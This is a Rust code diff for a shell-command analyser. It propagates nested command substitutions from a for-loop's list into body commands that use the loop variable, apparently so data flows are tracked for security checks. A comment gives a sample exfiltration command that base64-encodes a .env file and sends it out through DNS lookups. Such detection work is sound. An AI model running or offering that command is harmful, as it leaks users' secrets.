@@ -523,6 +523,10 @@ impl Walker {
             literal &= !w.substitution && !w.computed && !w.fields.iter().any(|x| x.contains('$'));
             values.extend(w.fields);
         }
+        // What the list's substitutions print is what the loop variable holds: it reaches the
+        // body's commands that use the variable (`for c in $(base64 .env); do nslookup $c.x;
+        // done` sends the file), as a function call's does.
+        let feeds = nested.clone();
         self.orphans.extend(nested);
         let before = self.state();
         let mut ends = vec![before.clone()];
@@ -539,8 +543,22 @@ impl Walker {
             }
         } else {
             self.ctx.vars.unset(&name);
+            let start = self.out.len();
             self.list(&f.body.list);
             ends.push(self.state());
+            if !feeds.is_empty() {
+                let (plain, braced) = (format!("${name}"), format!("${{{name}"));
+                for cmd in self.out[start..].iter_mut().flatten() {
+                    if cmd
+                        .c
+                        .args
+                        .iter()
+                        .any(|a| a.contains(&plain) || a.contains(&braced))
+                    {
+                        cmd.nested.extend(feeds.iter().cloned());
+                    }
+                }
+            }
         }
         self.merge(ends);
         if !per_value {
